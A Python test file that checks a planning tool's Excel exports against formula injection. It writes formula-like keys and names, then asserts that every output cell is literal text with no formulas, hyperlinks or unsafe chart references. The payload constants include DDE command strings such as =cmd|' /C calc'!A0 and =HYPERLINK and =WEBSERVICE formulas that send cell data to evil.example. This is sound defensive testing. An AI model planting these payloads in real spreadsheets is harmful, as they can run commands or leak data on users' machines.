"""Formula injection (issue 6, item 3): text from an input is written as text, never as a formula.

Keys, names, descriptions and sources that look like formulas (``=HYPERLINK(...)``, the DDE payload
``=cmd|' /C calc'!A0``, ``+``, ``-``, ``@`` prefixes) go through ``planner solve``, ``compare``, ``stress``
and ``sweep``; every workbook written is read back:

- every cell holding such text has ``data_type == 's'`` and the exact input string as its value;
- no cell anywhere is a formula (results hold values only), no cell is a hyperlink;
- in the raw XML: no ``<f>`` element in any sheet, and every chart reference (``<c:f>``) points at a cell
  of the workbook itself (a series named after a scenario ``=cmd|' /C calc'!A0`` stays literal text).
"""
from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from conftest import run_cli

PAYLOADS = {
    "m1": '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "m2": "=cmd|' /C calc'!A0",
    "ore": "+cmd|' /C notepad'!A0",
    "ox": "-2+3+cmd|' /C calc'!A0",
    "sup": "=1+1",
    "proc": '=DDE("cmd";"/C calc";"A0")',
    "off": "@SUM(1+1)*cmd|' /C calc'!A0",
    "seller": "=Sheet1!A1",
}
S1 = "=cmd|' /C calc'!A0"          # scenario name: the one xlsxwriter would take for a chart reference
S2 = "=HYPERLINK(\"http://evil.example\",\"x\")"
TEXTS = ["=2*3", "+SUM(A1:A9)", "-1+1", "@A1", "=WEBSERVICE(\"http://evil.example\")", "=cmd|' /C calc'!A0"]


def hostile_book(path: Path) -> Path:
    """A small feasible book whose keys and texts are formula-like (written as text cells)."""
    m1, m2, ore, ox = PAYLOADS["m1"], PAYLOADS["m2"], PAYLOADS["ore"], PAYLOADS["ox"]
    sup, proc, off, seller = PAYLOADS["sup"], PAYLOADS["proc"], PAYLOADS["off"], PAYLOADS["seller"]
    sheets = {
        "settings": [["key", "value"], ["start_year", 2026], ["end_year", 2027], ["discount_rate", 0.05],
                     ["shortage_penalty_usd_per_t", 100000]],
        "members": [["member", "name"], [m1, TEXTS[0]], [m2, TEXTS[1]]],
        "commodities": [["commodity", "name", "stage"], [ore, TEXTS[2], TEXTS[3]], [ox, TEXTS[4], TEXTS[5]]],
        "market_prices": [["commodity", "year", "price_usd_per_t"], [ore, 2026, 100], [ox, 2026, 1000]],
        "demand": [["member", "commodity", "year", "demand_t"], [m1, ox, 2026, 100], [m2, ox, 2026, 50]],
        "suppliers": [["supplier", "commodity", "max_tpa", "country_of_concern"], [sup, ox, 80, True],
                      ["ROW", ox, None, False], ["ROW", ore, None, False]],
        "processes": [["process", "member", "output", "input", "input_per_output", "existing_tpa", "module_tpa",
                       "max_modules", "capex_musd_per_module"], [proc, m1, ox, ore, 1.2, 20, 10, 2, 0.01]],
        "stockpiles": [["member", "commodity", "existing_capacity_t", "initial_stock_t"], [m2, ox, 10, 5]],
        "offtakes": [["offtake", "seller", "member", "commodity", "max_tpa", "floor_price_usd_per_t"],
                     [off, seller, m2, ox, 30, 900]],
        "security": [["commodity", "member", "max_concern_share"], [ox, m1, 0.9]],
        "scenarios": [["scenario", "probability", "description"], [S1, 0.5, TEXTS[0]], [S2, 0.5, TEXTS[4]]],
        "disruptions": [["scenario", "supplier", "commodity", "from_year", "to_year", "available_share"],
                        [S2, sup, ox, 2027, 2027, 0]],
        "sources": [["=item()", "value", "source"], [TEXTS[0], "=1+2", '=HYPERLINK("http://evil.example")'],
                    ["@cmd", "-3+4", "+cmd|' /C calc'!A0"]],
    }
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False,
                                         "strings_to_numbers": False})
    for name, rows in sheets.items():
        ws = wb.add_worksheet(name)
        for i, r in enumerate(rows):
            for j, v in enumerate(r):
                if v is not None:
                    ws.write(i, j, v)
    wb.close()
    return path


EXPECTED_TEXT = {PAYLOADS[k] for k in ("m1", "m2", "ore", "ox", "proc", "off")} | {S1, S2}  # (suppliers are not in results)
CHART_REF = re.compile(r"^'?[A-Za-z_][A-Za-z0-9_ ]*'?!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?$")


def assert_no_formulas(path: Path, must_contain=()) -> set:
    """No formula or hyperlink in any cell; the formula-like strings found are text. Returns them."""
    wb = openpyxl.load_workbook(path)  # not read-only: data_type and hyperlinks are available
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{path.name}!{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                assert c.hyperlink is None, f"{path.name}!{ws.title}!{c.coordinate} is a hyperlink"
                if isinstance(c.value, str) and c.value[:1] in "=+-@":
                    assert c.data_type == "s", (ws.title, c.coordinate, c.data_type)
                    found.add(c.value)
    wb.close()
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            data = z.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", data), f"{name} holds a formula"
            if name.startswith("xl/charts/"):
                for ref in re.findall(r"<c:f>(.*?)</c:f>", data):
                    assert CHART_REF.match(ref), f"{name}: chart reference {ref!r} is not a plain cell range"
            if name == "xl/workbook.xml":
                assert "cmd|" not in data and "HYPERLINK" not in data
    missing = set(must_contain) - found
    assert not missing, f"{path.name}: these input texts are missing (or changed): {missing}"
    return found


@pytest.fixture(scope="module")
def solved(tmp_path_factory):
    d = tmp_path_factory.mktemp("inj")
    inp = hostile_book(d / "hostile.xlsx")
    res = run_cli("validate", inp)
    assert res.exit_code == 0, res.output
    out = d / "results.xlsx"
    res = run_cli("solve", inp, "-o", out, "--time-limit", 60)
    assert res.exit_code == 0, res.output
    return d, inp, out


def test_results_workbook_writes_input_text_as_text(solved):
    d, inp, out = solved
    found = assert_no_formulas(out, EXPECTED_TEXT)
    # sources are copied as they are, header included
    wb = openpyxl.load_workbook(out, read_only=True)
    src = [list(r) for r in wb["sources"].iter_rows(values_only=True)]
    wb.close()
    assert src[0][0] == "=item()" and src[1][1] == "=1+2" and src[2][2] == "+cmd|' /C calc'!A0"
    assert '=HYPERLINK("http://evil.example")' in found


def test_chart_series_named_after_a_scenario_stays_text(solved):
    d, inp, out = solved
    with zipfile.ZipFile(out) as z:
        charts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/charts/chart")]
    assert charts, "the results workbook has charts"
    assert not any("cmd|" in ref for c in charts for ref in re.findall(r"<c:f>(.*?)</c:f>", c))


def test_comparison_workbook_writes_input_text_as_text(solved):
    d, inp, out = solved
    other = d / "results_b.xlsx"
    res = run_cli("solve", inp, "-o", other, "--set", "discount_rate=0.07", "--time-limit", 60)
    assert res.exit_code == 0, res.output
    cmp = d / "comparison.xlsx"
    res = run_cli("compare", out, other, "-o", cmp)
    assert res.exit_code == 0, res.output
    assert "Traceback" not in res.output
    assert_no_formulas(cmp, {PAYLOADS["m1"], PAYLOADS["m2"], S1})


def test_stress_workbook_writes_input_text_as_text(solved):
    d, inp, out = solved
    st = d / "stress.xlsx"
    res = run_cli("stress", inp, "--plan", out, "-o", st, "--time-limit", 60)
    assert res.exit_code == 0, res.output
    assert_no_formulas(st, {S1})


def test_sweep_workbooks_write_input_text_as_text(solved):
    d, inp, out = solved
    folder = d / "sweep"
    res = run_cli("sweep", inp, "--set", "discount_rate=0.03,0.06", "-o", folder, "--time-limit", 60)
    assert res.exit_code == 0, res.output
    books = sorted(folder.glob("*.xlsx"))
    assert len(books) >= 3, books
    for b in books:
        assert_no_formulas(b)


def test_writer_settings_are_safe():
    from planner.report.xlsio import SAFE, chart_text

    assert SAFE["strings_to_formulas"] is False and SAFE["strings_to_urls"] is False
    assert SAFE["strings_to_numbers"] is False
    assert chart_text("=cmd|' /C calc'!A0") == "=cmd|' /C calc'!\u2060A0" and chart_text("base") == "base"


def test_write_workbook_direct(tmp_path):
    """The writer itself, with every prefix Excel treats as a formula and some that look like numbers or URLs."""
    import pandas as pd

    from planner.report.xlsio import write_workbook

    texts = ["=1+1", "+1", "-1", "@A1", "=cmd|' /C calc'!A0", "\t=1+1", "\n=1", "http://evil.example",
             "1e5", "00123", "TRUE", "#N/A", "=" * 40000]
    p = write_workbook(tmp_path / "w.xlsx", {"t": pd.DataFrame({"=col": texts})})
    wb = openpyxl.load_workbook(p)
    ws = wb["t"]
    assert ws["A1"].value == "=col" and ws["A1"].data_type == "s"
    got = [ws.cell(i + 2, 1) for i in range(len(texts))]
    for c, t in zip(got, texts):
        assert c.data_type == "s", (t, c.data_type)
        assert c.value == t[:32767], t[:20]
